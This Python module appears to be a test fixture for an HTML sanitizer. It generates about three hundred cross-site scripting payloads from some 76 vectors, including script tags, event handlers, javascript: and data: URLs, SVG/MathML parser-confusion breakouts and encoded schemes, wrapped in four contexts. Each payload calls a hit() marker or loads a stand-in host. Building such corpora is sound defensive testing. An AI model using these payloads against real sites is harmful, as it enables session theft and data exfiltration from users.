"""Hostile HTML: some three hundred ways to run a script or to call elsewhere, by vector and by what is wrapped around.

Each calls ``hit(N)`` or reaches for ``ELSEWHERE``; a test that shows them lends the page a function of that name and
listens for requests to that address.
"""

from __future__ import annotations

ELSEWHERE = "http://elsewhere.invalid"

_VECTORS = (
    "<script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT>",
    "<script/x>RUN</script>",
    "<<script>RUN//<</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script>/*</p>*/RUN</script>",
    '<script src="CALL"></script>',
    '<script type=module>import "CALL"</script>',
    "<img src=x onerror=RUN>",
    "<img/src=x/onerror=RUN>",
    "<img src=x onerror\n=\tRUN>",
    "<img src='x' onerror='RUN'//>",
    '<img src="x`" `onerror=RUN>',
    '<IMG """><SCRIPT>RUN</SCRIPT>">',
    "<img src=x onerror=&#104;&#105;&#116;(NUMBER)>",
    '<img src="CALL">',
    '<img srcset="CALL 1x">',
    '<picture><source srcset="CALL"><img src=x></picture>',
    "<svg onload=RUN>",
    "<svg/onload=RUN//",
    "<svg><script>RUN</script></svg>",
    "<svg><script>hit&#40;NUMBER&#41;</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:RUN"><text y=20>press</text></a></svg>',
    '<svg><use href="data:image/svg+xml;utf8,<svg id=x xmlns=http://www.w3.org/2000/svg onload=RUN>#x"></use></svg>',
    '<svg><image href="CALL" /></svg>',
    "<svg></p><style><a id='</style><img src=x onerror=RUN>'>",
    '<math href="javascript:RUN">press</math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
    "<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>",
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    '<style><img src="</style><img src=x onerror=RUN>">',
    '<textarea><img title="</textarea><img src=x onerror=RUN>">',
    "<title><img src=x onerror=RUN></title>",
    "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>",
    "<template><img src=x onerror=RUN></template>",
    '<iframe src="javascript:RUN"></iframe>',
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    '<iframe src="CALL"></iframe>',
    '<object data="javascript:RUN"></object>',
    '<object data="data:text/html,<script>parent.RUN</script>"></object>',
    '<embed src="javascript:RUN">',
    '<form action="javascript:RUN"><button autofocus>press</button></form>',
    '<form action="CALL"><input name=q value=1></form>',
    '<button form=x formaction="javascript:RUN">press</button>',
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN><option>x</select>",
    "<details open ontoggle=RUN>press</details>",
    "<video src=x onerror=RUN></video>",
    "<video><source onerror=RUN></video>",
    '<audio src="CALL" onloadstart=RUN></audio>',
    "<marquee onstart=RUN>x</marquee>",
    "<body onload=RUN>",
    '<link rel=stylesheet href="CALL">',
    '<link rel=prefetch href="CALL">',
    '<meta http-equiv=refresh content="0;url=javascript:RUN">',
    '<meta http-equiv=refresh content="0;url=CALL">',
    '<base href="CALL/">',
    '<style>@import "CALL";</style>',
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=RUN>x</b>",
    '<p style="background:url(CALL)">x</p>',
    '<table background="CALL"><tr><td>x</td></tr></table>',
    '<a href="javascript:RUN">press</a>',
    '<a href="java\tscript:RUN">press</a>',
    '<a href="&#106;avascript:RUN">press</a>',
    '<a href=" JaVaScRiPt:RUN">press</a>',
    '<a href="javascript&colon;RUN">press</a>',
    '<a href="data:text/html,<script>opener.RUN</script>">press</a>',
    '<a href="vbscript:RUN">press</a>',
    '<a href="https://a.example/" ping="CALL">press</a>',
    '<a href="https://a.example/" onclick=RUN onmouseover=RUN>press</a>',
    '<a linktype="page" id="1&quot; onfocus=RUN tabindex=1 autofocus x=&quot;">press</a>',
    '<embed embedtype="media" url="javascript:RUN"/>',
    '<embed embedtype="image" id="1" format="left" alt="&quot; onerror=RUN x=&quot;"/>',
    "<div tabindex=1 autofocus onfocus=RUN>x</div>",
    "<b contenteditable autofocus onfocus=RUN>x</b>",
)
_AROUND = (
    "{}",
    "<p>Before</p>{}<p>after</p>",
    "</p></div></article></script>{}<!--",
    "\"'>{}",
)


def _of(number: int, vector: str, around: str) -> str:
    asked = vector.replace("RUN", "hit(NUMBER)").replace("CALL", f"{ELSEWHERE}/NUMBER")
    return around.replace("{}", asked).replace("NUMBER", str(number))


#: All of them, each with its own number.
PAYLOADS = tuple(
    _of(number, vector, around)
    for number, (vector, around) in enumerate((vector, around) for vector in _VECTORS for around in _AROUND)
)
